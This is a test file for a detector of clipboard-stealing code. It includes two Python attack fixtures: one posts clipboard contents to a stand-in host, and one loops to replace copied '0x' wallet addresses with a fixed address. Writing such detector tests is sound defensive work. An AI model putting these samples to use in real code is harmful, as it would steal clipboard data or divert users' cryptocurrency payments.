import { expect, test } from 'vitest'
import { artifactOf, hits } from '../testing.ts'
import detector from './stealer-clipboard.ts'

const seen = async (files: Record<string, string>) =>
  hits(detector, await artifactOf(files)).map(
    ({ strength, weight, where }) => `${strength} ${weight} ${where.file}:${where.line}`,
  )

test.each([
  [
    'sent',
    'import pyperclip, requests\nrequests.post("https://c.invalid", data=pyperclip.paste())',
    ['strong 6 a.py:2'],
  ],
  [
    'swapped',
    'import pyperclip\nwhile True:\n  if pyperclip.paste().startswith("0x"):\n    pyperclip.copy("0xd8dA6BF26964aF9D7eEd9e03E53415D37aA96045")',
    ['decisive 12 a.py:4'],
  ],
])('attack: %s', async (_, code, expected) => {
  expect(await seen({ 'a.py': code })).toEqual(expected)
})

test.each([
  [
    'a clipboard in a terminal',
    'import pyperclip, sys\nprint(pyperclip.paste())\npyperclip.copy(sys.stdin.read())',
  ],
  [
    'an upload of something else',
    'import pyperclip, requests\nprint(pyperclip.paste())\nrequests.post("https://api.example", data="x")',
  ],
])('innocent: %s', async (_, code) => {
  expect(await seen({ 'a.py': code })).toEqual([])
})
